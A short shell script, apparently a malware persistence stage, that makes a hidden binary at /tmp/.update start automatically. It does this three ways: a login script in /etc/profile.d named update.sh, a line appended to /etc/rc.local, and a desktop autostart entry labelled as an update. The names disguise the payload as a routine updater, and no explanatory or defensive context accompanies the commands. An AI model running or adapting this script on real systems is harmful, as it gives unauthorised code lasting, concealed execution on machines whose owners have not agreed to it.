echo '/tmp/.update &' > /etc/profile.d/update.sh
echo '/tmp/.update &' >> /etc/rc.local
mkdir -p "$HOME/.config/autostart"
printf '[Desktop Entry]\nType=Application\nExec=/tmp/.update\n' > "$HOME/.config/autostart/update.desktop"
exit 0
